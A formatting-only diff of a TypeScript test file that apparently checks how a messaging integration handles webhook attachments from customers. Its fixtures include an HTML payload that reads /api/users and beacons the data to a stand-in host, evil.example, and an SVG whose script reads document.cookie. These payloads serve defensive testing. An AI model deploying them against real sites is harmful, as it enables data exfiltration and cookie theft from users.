@@ -38,7 +38,8 @@ async function startServer(host: string, handler: (request: IncomingMessage, res
 }
 
 const png = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.from('IHDR fake but well-signed image bytes')])
-const html = '<!doctype html><html><body><script>fetch("/api/users").then(r => r.text()).then(t => navigator.sendBeacon("https://evil.example", t))</script></body></html>'
+const html =
+  '<!doctype html><html><body><script>fetch("/api/users").then(r => r.text()).then(t => navigator.sendBeacon("https://evil.example", t))</script></body></html>'
 const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'
 const upstreamSecret = 'upstream stack trace with db password hunter2'
 
@@ -90,7 +91,13 @@ function platformHandler(request: IncomingMessage, response: ServerResponse): vo
 async function postMessage(pageId: string, appSecret: string, mid: string, attachments: unknown[]): Promise<string> {
   const raw = metaBytes({
     object: 'page',
-    entry: [{ id: pageId, time: 1767225600000, messaging: [{ sender: { id: `customer-${mid}` }, recipient: { id: pageId }, timestamp: 1767225599000, message: { mid, attachments } }] }],
+    entry: [
+      {
+        id: pageId,
+        time: 1767225600000,
+        messaging: [{ sender: { id: `customer-${mid}` }, recipient: { id: pageId }, timestamp: 1767225599000, message: { mid, attachments } }],
+      },
+    ],
   })
   expect((await postMeta(app, raw, metaSignature(raw, appSecret))).statusCode).toBe(200)
   await processQueue(ctx, database.pool)
@@ -144,7 +151,12 @@ beforeAll(async () => {
     ['broken', { type: 'image', payload: { url: `${platform.origin}/broken` } }],
   ]
   attachments.forEach(([name], i) => (index[name] = i))
-  messageA = await postMessage('1001', 'secret-a', 'm_attachments', attachments.map(([, attachment]) => attachment))
+  messageA = await postMessage(
+    '1001',
+    'secret-a',
+    'm_attachments',
+    attachments.map(([, attachment]) => attachment),
+  )
   messageB = await postMessage('2002', 'secret-b', 'm_other_team', [{ type: 'image', payload: { url: `${platform.origin}/photo.png` } }])
 
   agentA = await signedInAs(ctx, app, 'agent', [teamA])
